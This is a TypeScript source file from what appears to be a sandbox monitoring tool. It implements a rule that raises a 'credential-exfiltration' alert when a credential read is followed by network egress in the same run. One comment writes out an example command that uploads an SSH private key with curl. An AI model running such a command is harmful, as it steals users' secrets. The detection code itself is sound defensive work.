import { makeAlert, type TripwireAlert } from "../alert.ts";
import { destructiveRule } from "../rules/destructive-rules.ts";

/**
 * Cross-event rule: a credential read followed (by seq) by network egress in the same run.
 * Both halves are remembered (first unalerted read, latest egress), so the rule fires whichever
 * of the two records arrives first. One alert per credential read: a later read re-arms it.
 */
export interface CredentialState {
  pendingRead: { seq: number; path: string } | null;
  lastEgress: { seq: number; target: string } | null;
  /** Seq of the read that already produced an alert (so repeated egress stays quiet). */
  alertedReadSeq: number | null;
}

export function emptyCredentialState(): CredentialState {
  return { pendingRead: null, lastEgress: null, alertedReadSeq: null };
}

export interface DataFlowObservation {
  readonly runId: string;
  readonly seq: number;
  readonly eventTime: number;
  readonly credentialReads: readonly string[];
  readonly egressTargets: readonly string[];
  readonly command: string | undefined;
}

export function observeDataFlow(state: CredentialState, observation: DataFlowObservation): TripwireAlert[] {
  const alerts: TripwireAlert[] = [];
  const firstRead = observation.credentialReads[0];
  if (
    firstRead !== undefined &&
    (state.pendingRead === null ||
      state.pendingRead.seq === state.alertedReadSeq ||
      observation.seq < state.pendingRead.seq)
  ) {
    state.pendingRead = { seq: observation.seq, path: firstRead };
  }
  const firstEgress = observation.egressTargets[0];
  if (firstEgress !== undefined && (state.lastEgress === null || observation.seq >= state.lastEgress.seq)) {
    state.lastEgress = { seq: observation.seq, target: firstEgress };
  }
  const read = state.pendingRead;
  const egress = state.lastEgress;
  // Same record reading and sending (`curl -F k=@~/.ssh/id_rsa host`) counts: seq equal.
  if (read !== null && egress !== null && read.seq <= egress.seq && state.alertedReadSeq !== read.seq) {
    state.alertedReadSeq = read.seq;
    const rule = destructiveRule("credential-exfiltration");
    alerts.push(
      makeAlert(rule, {
        run_id: observation.runId,
        event_time: observation.eventTime,
        evidence: {
          seq_from: read.seq,
          seq_to: egress.seq,
          path: read.path,
          command: observation.command,
          detail: `egress to ${egress.target}`,
        },
        message: `credential ${read.path} was read (seq ${read.seq}) and data then left the sandbox to ${egress.target} (seq ${egress.seq})`,
      }),
    );
  }
  return alerts;
}
